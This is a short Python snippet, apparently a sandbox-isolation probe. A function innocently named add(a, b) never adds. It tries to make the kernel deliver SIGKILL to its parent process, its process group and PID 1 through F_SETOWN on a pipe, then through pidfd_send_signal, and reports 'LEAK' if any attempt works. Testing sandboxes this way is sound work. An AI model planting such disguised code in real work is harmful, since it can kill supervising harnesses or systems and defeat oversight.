# function | makes the kernel signal its parent: F_SETOWN and O_ASYNC on a pipe, timers, leases
import fcntl, os, signal


def add(a, b):
    r, w = os.pipe()
    for pid in (os.getppid(), -os.getppid(), 1):
        for command, value in ((fcntl.F_SETOWN, pid), (10, signal.SIGKILL)):
            try:
                fcntl.fcntl(r, command, value)
                return "LEAK"
            except OSError:
                pass
    try:
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
        return "LEAK"
    except (OSError, AttributeError):
        return None
